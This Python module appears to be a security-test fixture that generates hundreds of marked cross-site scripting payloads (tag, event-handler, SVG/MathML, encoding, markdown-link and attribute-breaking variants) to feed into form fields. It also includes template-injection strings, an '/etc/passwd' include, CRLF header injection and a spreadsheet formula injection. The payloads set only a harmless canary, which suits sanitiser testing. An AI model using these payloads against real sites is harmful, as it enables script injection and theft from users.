"""Strings of people who mean harm: some hundreds, each tries to set window.__pwned where it is shown.

Each bears a mark (h17z) by which it is found again on the page.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from functools import lru_cache

CALL = "window.__pwned=1"
CALLS = (CALL, "top['__pw'+'ned']=1", "&#119;indow.__pwned=1", "eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))")
# {m} is the mark, {c} the call.
TAGS = (
    "<script>{c}</script>{m}", "<ScRiPt >{c}</sCrIpT\t>{m}", "<script src=data:text/javascript,{c}></script>{m}",
    "<script/x>{c}</script>{m}", "<<script>{c}//<</script>{m}", "<scr<script>ipt>{c}</scr</script>ipt>{m}",
    "<img src=x onerror={c}>{m}", '<img src=x onerror="{c}">{m}', "<img src=x onerror='{c}'>{m}", "<img/src=x/onerror={c}>{m}",
    "<img src=x:x onerror\n=\n{c}>{m}", "<image src=x onerror={c}>{m}", '<img """><script>{c}</script>">{m}',
    "<svg onload={c}>{m}", "<svg/onload={c}//{m}", "<svg><script>{c}</script></svg>{m}", "<svg><animate onbegin={c} attributeName=x dur=1s>{m}",
    "<svg><a xlink:href=javascript:{c}><text x=9 y=9>{m}</text></a></svg>", "<svg><foreignObject><iframe srcdoc='<script>{c}</script>'>{m}",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={c}>#x"/></svg>{m}', "<svg><style><img src=x onerror={c}></style></svg>{m}",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={c}&gt;\">{m}",
    "<math href=javascript:{c}>{m}</math>", "<math><mi><mglyph><svg><mtext><style><path id='</style><img onerror={c} src>'>{m}",
    "<body onload={c}>{m}", "<body onpageshow={c}>{m}", "<html onmouseover={c}>{m}", "<input autofocus onfocus={c} value={m}>",
    "<select autofocus onfocus={c}>{m}", "<textarea autofocus onfocus={c}>{m}", "<button autofocus onfocus={c}>{m}", "<a tabindex=1 id=x autofocus onfocus={c}>{m}</a>",
    "<details open ontoggle={c}>{m}</details>", "<video><source onerror={c}></video>{m}", "<audio src=x onerror={c}>{m}", "<video poster=javascript:{c}>{m}",
    "<marquee onstart={c}>{m}</marquee>", "<style>@import 'data:text/css,*{{}}';</style><p style=\"background:url(javascript:{c})\">{m}", "<p style=\"x:expression({c})\">{m}</p>",
    "<div style=\"animation-name:x\" onanimationstart={c}>{m}</div>", "<p style='position:fixed;inset:0;z-index:9' onmouseover={c}>{m}</p>",
    "<iframe src=javascript:{c}></iframe>{m}", "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>{m}", "<object data=javascript:{c}>{m}</object>",
    "<embed src=javascript:{c}>{m}", "<object data='data:text/html,<script>parent.__pwned=1</script>'></object>{m}", "<frameset onload={c}>{m}",
    "<link rel=stylesheet href=javascript:{c}>{m}", "<link rel=import href='data:text/html,<script>{c}</script>'>{m}", "<meta http-equiv=refresh content='0;url=javascript:{c}'>{m}",
    "<base href='javascript:/{c}//'>{m}", "<form action=javascript:{c}><button>{m}</button></form>", "<form><button formaction=javascript:{c}>{m}</button></form>",
    "<isindex action=javascript:{c} type=submit>{m}", "<template><script>{c}</script></template>{m}", "<noscript><p title=\"</noscript><img src=x onerror={c}>\">{m}</noscript>",
    "<title></title><script>{c}</script>{m}", "</title><script>{c}</script>{m}", "</textarea><script>{c}</script>{m}", "</style><script>{c}</script>{m}",
    "</script><script>{c}</script>{m}", "--><script>{c}</script>{m}", "<!--><script>{c}</script>{m}", "<!--[if gte IE 4]><script>{c}</script><![endif]-->{m}", "<![CDATA[<script>{c}</script>]]>{m}",
    "<?xml version='1.0'?><script>{c}</script>{m}", "<xss onclick={c} tabindex=1 autofocus onfocus={c}>{m}</xss>", "<p hx-get=javascript:{c} hx-trigger=load>{m}</p>",
    "<p hx-on::load={c}>{m}</p>", "<p hx-vals='js:{{x:{c}}}' hx-get=/ hx-trigger=load>{m}</p>", "<p data-once onclick={c}>{m}</p>", "<img name=getElementById><form id=documentElement name=cookie>{m}",
    "<a id=__pwned href=javascript:{c}>{m}</a><a id=__pwned name=x>", "<dialog open onclose={c}><form method=dialog>{m}</form></dialog>", "<div popover id=menu onbeforetoggle={c}>{m}</div>",
)  # fmt: skip
# They want to leave an attribute or a place of the page's own.
BREAKERS = (
    "\"><script>{c}</script>{m}", "'><script>{c}</script>{m}", "\" autofocus onfocus={c} x=\"{m}", "' autofocus onfocus={c} x='{m}", "` onerror={c} {m}",
    "\"/onmouseover={c}/\"{m}", "\\\"><img src=x onerror={c}>{m}", "\\'-{c}-\\'{m}", "';{c};//{m}", "\";{c};//{m}", "</script><svg onload={c}>{m}", "${{{c}}}{m}", "`${{{c}}}`{m}",
    "%22%3E%3Cscript%3E{c}%3C/script%3E{m}", "&lt;script&gt;{c}&lt;/script&gt;{m}", "&#60;img src=x onerror={c}&#62;{m}", "\\u003cscript\\u003e{c}\\u003c/script\\u003e{m}",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-{m}", "＜script＞{c}＜/script＞{m}", "‹img src=x onerror={c}›{m}", "<\u200bscript>{c}</script>{m}", "<scr\u00adipt>{c}</script>{m}",
    "<img src=x o\u0000nerror={c}>{m}", "<img src=x onerror\u000b={c}>{m}", "\u202e<img src=x onerror={c}>\u202c{m}", "\u2066{m}\u2069<svg onload={c}>", "\u2028<script>{c}</script>{m}",
    "{{{{ {c} }}}}{m}", "{{% include '/etc/passwd' %}}{m}", "{{{{ constructor.constructor('{c}')() }}}}{m}", "[[name]][[stop_url]]<script>{c}</script>{m}", "<%= {c} %>{m}", "#{{{c}}}{m}",
    "=HYPERLINK(\"javascript:{c}\")", "\r\nX-Evil: 1\r\n\r\n<script>{c}</script>{m}", "\0<script>{c}</script>{m}", "{m}" + "<b>" * 60 + "<script>{c}</script>",
)  # fmt: skip
# In a light markup that becomes HTML.
MARKUP = (
    "[{m}](javascript:{c})", "[{m}](JaVaScRiPt:{c})", "[{m}](java\tscript:{c})", "[{m}](&#106;avascript:{c})", "[{m}]( javascript:{c})", "[{m}](\x01javascript:{c})",
    "[{m}](data:text/html,<script>{c}</script>)", "[{m}](vbscript:{c})", "[{m}](http://x.example\"onmouseover=\"{c})", "[{m}](<http://x.example\" onclick={c}>)",
    "[{m}](http://x.example 'a\" onmouseover={c} b')", "![{m}](x\" onerror=\"{c})", "![{m}](javascript:{c})", "<javascript:{c}>{m}", "<http://x.example/\"onclick={c}>{m}", "[{m}]: javascript:{c}\n[{m}]",
    "**<img src=x onerror={c}>{m}**", "`<script>{c}</script>{m}`", "```\"><script>{c}</script>\n{m}\n```", "| <script>{c}</script> | {m} |\n|---|---|\n| <svg onload={c}> | x |", "> <script>{c}</script>{m}",
    "1. <iframe src=javascript:{c}>{m}", "# <script>{c}</script>{m}", "http://x.example/<script>{c}</script>{m}", "www.x.example/\"onmouseover={c}//{m}", "mailto:x@x.example?\"onclick={c}{m}", "[x][1] {m}\n\n[1]: data:text/html,<script>{c}</script>",
    "\\<script>{c}</script>{m}", "&lt;img src=x onerror={c}&gt;{m}", "@<script>{c}</script>{m}", "[1]<script>{c}</script>{m}",
)  # fmt: skip


@lru_cache(maxsize=1)
def strings() -> tuple[str, ...]:
    """All of them, each with a mark of its own."""
    shapes = [
        *((shape, call) for shape in TAGS for call in CALLS[:2]),
        *((shape, call) for shape in BREAKERS for call in (CALLS[0], CALLS[2])),
        *((shape, call) for shape in MARKUP for call in CALLS),
    ]
    return tuple(shape.format(m=f"h{n}z", c=call) for n, (shape, call) in enumerate(shapes))


class Tap:
    """Gives the strings one after the other, over and over, so that every field gets others.

    Without NUL, which no form lets through and Postgres takes in no text.
    """

    def __init__(self) -> None:
        self._all: Iterator[str] = itertools.cycle(found.replace("\0", "") for found in strings())

    def line(self, most: int = 120) -> str:
        """One that fits into a field of so many characters."""
        while True:
            found = next(self._all)
            if len(found) <= most and "\n" not in found.strip():
                return found

    def text(self, number: int = 20, most: int = 20_000) -> str:
        """Several, as paragraphs of one text."""
        out: list[str] = []
        while len(out) < number:
            found = next(self._all)
            if sum(map(len, out)) + len(found) + 2 * len(out) > most - 4:
                break
            out.append(found)
        return "\n\n".join(out)
